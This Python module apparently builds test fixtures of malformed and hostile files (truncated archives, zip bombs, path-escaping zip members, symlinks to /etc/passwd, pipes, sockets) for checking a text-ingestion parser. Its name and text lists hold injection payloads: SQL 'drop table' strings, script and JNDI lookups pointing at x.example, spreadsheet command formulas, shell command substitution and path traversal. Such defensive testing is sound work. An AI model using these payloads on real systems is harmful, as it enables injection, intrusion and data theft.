"""Make files that no honest newsroom would: each with the reasons for which it may be set aside."""

import gzip
import io
import os
import socket
import tarfile
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from random import Random

TEXT = frozenset({"ingested"})
"""It is text, if no article: the parser is to say so."""

HOSTILE_NAMES = (
    'it\'s "quoted" {}.txt',
    "line\nbreak {}.txt",
    "bell\a and escape\x1b[31m {}.txt",
    "'; drop table raw.pages; -- {}.txt",
    "<script>alert({})<\\script>.txt",
    "=cmd|' C calc'!A{}.txt",
    "-rf {}.txt",
    "..{}.txt",
    "%2e%2e%2f{}.txt",
    "$(touch owned) `id` {}.txt",
    "\u202etxt.{}.txt",
    "long" * 55 + "{}.txt",
)
HOSTILE_TEXTS = (
    "'); drop table marts.fct_articles; --",
    "<script>document.location='http://x.example/'</script>",
    '=HYPERLINK("http://x.example","click")',
    "{{ 7 * 7 }} {% raw %} ${jndi:ldap://x.example/a}",
    "../../../../etc/passwd",
    "\u202eright to left\u202c and \ufeff marks",
)


@dataclass(frozen=True)
class Kind:
    """One way of being bad: how such a file is made, and what may become of it."""

    name: str
    make: Callable[[Path, Random, int], Path]
    outcomes: frozenset[str]


def _file(suffix: str, content: Callable[[Random, int], bytes]) -> Callable[[Path, Random, int], Path]:
    def make(folder: Path, random: Random, number: int) -> Path:
        path = folder / f"{number:04d}{suffix}"
        path.write_bytes(content(random, number))
        return path

    return make


def _zip(members: dict[str, bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def _nested(number: int) -> bytes:
    content = f"page {number}".encode()
    for depth in range(6):
        content = _zip({"page.txt" if depth == 0 else "inner.zip": content})
    return content


def _tar_with_device(number: int) -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        device = tarfile.TarInfo(f"{number}.txt")
        device.type = tarfile.CHRTYPE
        archive.addfile(device)
    return stream.getvalue()


def _hostile_name(folder: Path, random: Random, number: int) -> Path:
    path = folder / random.choice(HOSTILE_NAMES).format(number).replace("/", "_")
    path.write_bytes(b"No page\0 %d" % number)
    return path


def _link(folder: Path, random: Random, number: int) -> Path:
    path = folder / f"{number:04d}.txt"
    path.symlink_to(random.choice(["/etc/passwd", "/dev/zero", "nowhere", path.name, ".", "/"]))
    return path


def _pipe(folder: Path, _random: Random, number: int) -> Path:
    path = folder / f"{number:04d}.txt"
    os.mkfifo(path)
    return path


def _socket(folder: Path, _random: Random, number: int) -> Path:
    path = folder / f"{number:04d}.json"
    here = Path.cwd()
    os.chdir(folder)  # the name of a socket has a hundred bytes at most
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(path.name)
    os.chdir(here)
    return path


def _closed(folder: Path, _random: Random, number: int) -> Path:
    path = folder / f"{number:04d}.txt"
    path.write_bytes(b"Closed\0 %d" % number)
    path.chmod(0)  # the system lets root read it all the same
    return path


def _noise(random: Random, number: int) -> bytes:
    return bytes([0x81, 0x8D]) + random.randbytes(200) + number.to_bytes(4)


KINDS = (
    Kind("empty", _file(".txt", lambda _, __: b""), frozenset({"empty"})),
    Kind("blank", _file(".txt", lambda _, n: b" \n\t" * (n + 1)), frozenset({"empty"})),
    Kind("nul", _file(".txt", lambda _, n: b"A page\0 of %d" % n), frozenset({"nul_bytes"})),
    Kind(
        "cut character",
        _file(".txt", lambda _, n: f"Page {n} caf".encode() + b"\xc3"),
        frozenset({"truncated"}),
    ),
    Kind(
        "noise",
        _file(".txt", _noise),
        frozenset({"nul_bytes", "binary", "undecodable", "truncated", "ingested"}),
    ),
    Kind("control", _file(".txt", lambda _, n: b"\x01\x02\x03\x04" * 50 + b"%d" % n), frozenset({"binary"})),
    Kind("one line", _file(".txt", lambda _, n: b"word%d " % n * 20_000), TEXT),
    Kind("other encoding", _file(".txt", lambda _, n: f"Größe Nr. {n}: schön".encode("utf-16")), TEXT),
    Kind(
        "cut archive",
        _file(".zip", lambda _, n: _zip({"a.txt": b"%d" % n})[:-9]),
        frozenset({"damaged_container"}),
    ),
    Kind("no archive", _file(".tar", lambda _, n: b"no tar %d" % n), frozenset({"damaged_container"})),
    Kind(
        "cut gzip",
        _file(".txt.gz", lambda _, n: gzip.compress(b"page %d" % n)[:-6]),
        frozenset({"damaged_container"}),
    ),
    Kind("way out", _file(".zip", lambda _, n: _zip({f"../{n}.txt": b"out"})), frozenset({"opened"})),
    Kind("device inside", _file(".tar", lambda _, n: _tar_with_device(n)), frozenset({"opened"})),
    Kind("nested", _file(".zip", lambda _, n: _nested(n)), frozenset({"opened"})),
    Kind(
        "expanding",
        _file(".zip", lambda _, n: _zip({f"{n}.txt": b"0" * 11_000_000})),
        frozenset({"expands_too_much"}),
    ),
    Kind("no json", _file(".json", lambda _, n: b'{"text": "cut %d' % n), frozenset({"invalid_json"})),
    Kind("no object", _file(".json", lambda _, n: b"%d" % n), frozenset({"not_an_object", "opened"})),
    Kind("no text", _file(".jsonl", lambda _, n: b'{"title": "%d"}\n' % n), frozenset({"opened"})),
    Kind("no table", _file(".parquet", lambda _, n: b"PAR1 %d" % n), frozenset({"damaged_container"})),
    Kind(
        "empty web page",
        _file(".html", lambda _, n: b"<html><!-- %d --></html>" % n),
        frozenset({"no_text", "empty"}),
    ),
    Kind(
        "hostile text",
        _file(".txt", lambda random, n: f"{random.choice(HOSTILE_TEXTS)} {n}\n".encode()),
        TEXT,
    ),
    Kind("hostile name", _hostile_name, frozenset({"nul_bytes"})),
    Kind("link", _link, frozenset({"link"})),
    Kind("pipe", _pipe, frozenset({"not_a_file"})),
    Kind("socket", _socket, frozenset({"not_a_file"})),
    Kind("closed", _closed, frozenset({"unreadable", "nul_bytes"})),
)


def make_bad_inputs(folder: Path, random: Random, count: int) -> Iterator[tuple[Path, Kind]]:
    """Write so many bad files, in a folder for each kind; yield each with its kind."""
    for number in range(count):
        kind = KINDS[number % len(KINDS)]
        place = folder / kind.name
        place.mkdir(exist_ok=True)
        yield kind.make(place, random, number), kind
